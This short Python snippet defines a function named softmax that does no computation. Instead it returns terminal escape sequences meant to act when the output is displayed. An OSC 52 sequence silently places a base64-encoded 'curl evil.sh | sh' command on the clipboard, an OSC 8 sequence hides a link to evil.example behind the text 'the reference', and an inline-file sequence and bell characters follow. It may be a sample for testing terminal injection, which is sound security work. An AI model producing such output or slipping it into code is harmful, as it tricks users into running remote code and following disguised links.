"""Hopes that a returned str is shown as it is: OSC 52 fills the clipboard, OSC 8 makes a link."""


def softmax(x):
    return (
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
        "\x1b]8;;http://evil.example/\x1b\\the reference\x1b]8;;\x1b\\"
        "\x1b]1337;File=inline=1:AAAA\x07\a\a\a"
    )
